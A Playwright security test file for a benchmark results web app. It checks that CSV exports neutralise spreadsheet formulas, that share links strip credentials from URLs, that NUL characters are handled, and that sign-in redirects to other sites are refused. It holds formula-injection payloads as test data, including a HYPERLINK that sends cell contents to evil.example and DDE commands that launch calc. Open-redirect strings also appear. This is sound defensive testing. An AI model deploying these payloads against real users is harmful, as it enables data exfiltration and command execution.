import { expect, test, type APIRequestContext } from "@playwright/test";
import { parseCsv } from "@meshbench/formats";
import { DEMO_USER_EMAIL, DEMO_USER_PASSWORD, signInOverHttp } from "../../fixtures/auth";
import { baseUrl, bearer, createToken, fixture } from "./api-fixtures";

// Issue 20, defects 7-9, at the HTTP boundary of the built app: an attacker holding only a
// `results:write` token plants formulas and credentials; members and share-link visitors read.
const SECRET = "tok3n";
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"report")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-1+1",
];
const LEVEL = "qps-100/c8/p0/http1/ka";
const hostileUpload = (title: string) => ({
  benchmark: "hostile-text",
  title,
  git: {
    repo: `https://user:${SECRET}@github.com/x/y.git`,
    branch: FORMULAS[1],
    commit: FORMULAS[2],
    pr: FORMULAS[3],
  },
  mesh: { name: FORMULAS[0], version: "-2" },
  labels: { note: "-1+1", link: `https://admin:${SECRET}@internal.example/x` },
  trials: ["baseline", "nginx"].map((variant) => ({
    result: fixture(`fortio/matrix/${variant}-qps100-c8-rep1.json`),
    variant,
  })),
});

/** Cells a spreadsheet would evaluate: a formula character first, and not a number. */
const formulaCells = (csv: string) =>
  parseCsv(csv)
    .flat()
    .filter((cell) => /^[=+\-@\t\r]/.test(cell) && !Number.isFinite(Number(cell)));

async function get(request: APIRequestContext, path: string) {
  const response = await request.get(path, { maxRedirects: 0 });
  const body = await response.text();
  expect(response.status(), `${path}: ${body.slice(0, 300)}`).toBe(200);
  return body;
}

test.describe("hostile text planted by a results:write token", () => {
  const runIds: string[] = [];
  let compareQuery = "";

  test.beforeAll(async ({ playwright }) => {
    const token = await createToken("demo", ["results:write"]);
    const attacker = await playwright.request.newContext({ baseURL: baseUrl() });
    for (const title of [FORMULAS[0]!, `${FORMULAS[3]} https://ci:${SECRET}@ci.example/job`]) {
      const response = await attacker.post("/api/v1/results", {
        headers: bearer(token),
        data: hostileUpload(title),
      });
      expect(response.status(), await response.text()).toBe(200);
      runIds.push((await response.json()).runId);
    }
    await attacker.dispose();
    const params = new URLSearchParams();
    for (const runId of runIds)
      for (const variant of ["baseline", "nginx"])
        params.append("s", `${runId}~${variant}~${LEVEL}`);
    params.set("ref", "0");
    compareQuery = params.toString();
  });

  test("every CSV export (run, comparison, share link) keeps the formulas as text", async ({
    request,
    playwright,
  }) => {
    await signInOverHttp(request, DEMO_USER_EMAIL, DEMO_USER_PASSWORD);
    const runCsv = await get(request, `/runs/${runIds[0]}/export/csv`);
    const compareCsv = await get(request, `/compare/export/csv?${compareQuery}`);
    const share = await request.post("/api/trpc/share.create", {
      headers: { origin: baseUrl() },
      data: { json: { kind: "run", runId: runIds[0] } },
    });
    expect(share.status()).toBe(200);
    const shareId = (await share.json()).result.data.json.id as string;
    const visitor = await playwright.request.newContext({ baseURL: baseUrl() });
    const shareCsv = await get(visitor, `/share/${shareId}/export/csv`);
    await visitor.dispose();

    for (const csv of [runCsv, compareCsv, shareCsv]) expect(formulaCells(csv)).toEqual([]);
    const cells = parseCsv(runCsv).flat();
    for (const text of FORMULAS) expect(cells).toContain(`'${text}`); // there, neutralised
    expect(
      parseCsv(compareCsv)
        .flat()
        .some((c) => c.startsWith("'=HYPERLINK")),
    ).toBe(true);
  });

  test("a share link's page, JSON and CSV carry no credential from a URL", async ({
    request,
    playwright,
  }) => {
    await signInOverHttp(request, DEMO_USER_EMAIL, DEMO_USER_PASSWORD);
    const create = async (input: unknown) => {
      const response = await request.post("/api/trpc/share.create", {
        headers: { origin: baseUrl() },
        data: { json: input },
      });
      expect(response.status(), await response.text()).toBe(200);
      return (await response.json()).result.data.json.id as string;
    };
    const ids = [
      await create({ kind: "run", runId: runIds[1] }),
      await create({
        kind: "comparison",
        comparison: {
          items: runIds.map((runId) => ({ runId, variant: "nginx", levelKey: LEVEL })),
          reference: 0,
        },
      }),
    ];
    const visitor = await playwright.request.newContext({ baseURL: baseUrl() });
    for (const id of ids) {
      const view = encodeURIComponent(JSON.stringify({ json: { id } }));
      const responses = [
        await get(visitor, `/share/${id}`),
        await get(visitor, `/api/trpc/share.view?input=${view}`),
        await get(visitor, `/share/${id}/export/json`),
        await get(visitor, `/share/${id}/export/csv`),
      ];
      for (const body of responses) {
        expect(body).not.toContain(SECRET);
        expect(body).not.toMatch(/internal\.example|ci\.example/);
      }
    }
    // the repository is still shown, without its credentials (and, being public, its host)
    const view = encodeURIComponent(JSON.stringify({ json: { id: ids[0] } }));
    const shared = JSON.parse(await get(visitor, `/api/trpc/share.view?input=${view}`));
    expect(shared.result.data.json.report.run.gitRepo).toBe("https://<host>/x/y.git");
    await visitor.dispose();
  });
});

test.describe("NUL characters (PostgreSQL text refuses them)", () => {
  test("sign-up fields with NUL are a 400 naming the field, not a 500", async ({ request }) => {
    const response = await request.post("/api/auth/sign-up/email", {
      headers: { origin: baseUrl() },
      data: {
        name: "Mallory\u0000",
        email: `nul-${Date.now()}@example.test`,
        password: "a-long-enough-password",
      },
    });
    expect(response.status()).toBe(400);
    expect((await response.json()).error).toMatchObject({ code: "BAD_REQUEST", field: "name" });
  });

  test("a result document whose text holds NUL escapes is stored without them", async ({
    request,
  }) => {
    const token = await createToken("demo", ["results:write", "read"]);
    const doc = JSON.parse(fixture("fortio/matrix/baseline-qps100-c8-rep1.json"));
    doc.Labels = "nul\u0000inside";
    const response = await request.post("/api/v1/results", {
      headers: bearer(token),
      data: { benchmark: "nul-document", trials: [{ result: JSON.stringify(doc) }] },
    });
    expect(response.status(), await response.text()).toBe(200);
    const { runId } = await response.json();
    expect((await request.get(`/api/v1/runs/${runId}`, { headers: bearer(token) })).status()).toBe(
      200,
    );
  });
});

test("the server's own redirect targets (better-auth callbackURL) refuse other sites", async ({
  request,
}) => {
  for (const callbackURL of ["/\\evil.example", "//evil.example", "https://evil.example/"]) {
    const response = await request.post("/api/auth/sign-in/email", {
      headers: { origin: baseUrl() },
      data: { email: DEMO_USER_EMAIL, password: DEMO_USER_PASSWORD, callbackURL },
    });
    expect(response.status(), callbackURL).toBe(403);
    expect(response.headers()["location"]).toBeUndefined();
  }
});
